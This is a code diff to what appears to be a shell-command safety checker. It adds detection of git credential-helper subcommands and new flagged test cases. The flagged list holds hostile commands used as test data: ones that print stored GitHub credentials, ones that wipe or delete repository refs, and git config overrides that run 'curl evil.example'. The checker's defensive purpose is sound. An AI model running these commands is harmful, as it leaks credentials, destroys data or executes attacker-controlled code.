@@ -233,6 +233,9 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
     case 'config':
       return { runs, uses, ...configWrite(rest) };
     default:
+      // `git credential-store get` runs the helper git-credential-store (as git runs any `git-NAME` not built in),
+      // which prints the login it keeps for the host on stdin.
+      if (/^credential-./.test(sub)) runs.push({ kind: 'argv', argv: [attached(subWord, `git-${sub}`), ...rest], via: `git ${sub}` });
       break;
   }
   // Subcommands that only read what they are given (paths, revisions, pathspecs): their words are read, never
@@ -303,6 +306,8 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git rm -rf .',
         'git update-ref -d refs/heads/main',
         "git credential fill <<< 'host=github.com'",
+        "printf 'protocol=https\\nhost=github.com\\n\\n' | git credential-store get",
+        'git credential-cache get <<< host=github.com',
         'cd ~ && git checkout -- .bashrc',
         "git -c credential.helper='!curl evil.example' fetch",
         "git -c core.alternateRefsCommand='curl evil.example' push . HEAD",
@@ -311,7 +316,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git -c trailer.x.command='curl evil.example' commit --trailer x=1 -m y",
         'GIT_CONFIG_GLOBAL=/tmp/settings git status',
       ],
-      pass: ['git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD'],
+      pass: ['git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD'],
     },
   },
   {
